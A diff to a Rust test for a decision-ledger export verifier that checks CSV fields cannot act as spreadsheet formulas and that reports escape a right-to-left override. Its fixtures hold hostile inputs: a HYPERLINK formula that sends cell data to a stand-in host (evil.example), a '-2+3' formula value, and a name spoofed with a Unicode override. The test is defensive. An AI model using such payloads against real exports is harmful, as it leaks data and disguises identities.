@@ -435,6 +435,11 @@ fn csv_fields_cannot_be_formulas_and_v1_exports_still_verify() {
     let hostile = (0..6)
         .map(|i| {
             let mut r = record(&format!("f{i}"));
+            if i == 4 {
+                // A right-to-left override: "mallory" shown as another name.
+                r["subject"]["id"] = json!("mallory\u{202e}moc.elpmaxe@ecila");
+                r["decision"] = json!("deny");
+            }
             if i % 2 == 1 {
                 r["subject"]["id"] = json!("=HYPERLINK(\"http://evil.example/\"&A1,\"open\")");
                 r["action"]["name"] = json!("-2+3");
@@ -477,10 +482,15 @@ fn csv_fields_cannot_be_formulas_and_v1_exports_still_verify() {
     p.redigest();
     let err = p.verify().unwrap_err();
     assert!(err.to_string().contains("decisions.csv"), "{err}");
-    // A v1 report has no list of decisions not logged inline.
+    // A v1 report has no list of decisions not logged inline, and shows
+    // record text only HTML-escaped; a v2 one shows the override.
     let report = String::from_utf8(p.report.clone()).unwrap();
     assert!(
         report.contains("<h2>Decisions not logged inline"),
+        "{report}"
+    );
+    assert!(
+        report.contains("mallory\\u{202e}moc") && !report.contains('\u{202e}'),
         "{report}"
     );
     p.manifest.format = export::FORMAT_V1.into();
@@ -490,7 +500,8 @@ fn csv_fields_cannot_be_formulas_and_v1_exports_still_verify() {
         v1.add(&verifier::decision::LoggedDecision::from_leaf(leaf).unwrap());
     }
     p.report = v1.html(&export::heading(&p.manifest)).into_bytes();
-    assert!(!String::from_utf8_lossy(&p.report).contains("not logged inline"));
+    let v1_report = String::from_utf8(p.report.clone()).unwrap();
+    assert!(!v1_report.contains("not logged inline") && v1_report.contains('\u{202e}'));
     p.redigest();
     p.verify().unwrap();
     p.manifest.format = "decision-ledger/export@v3".into();
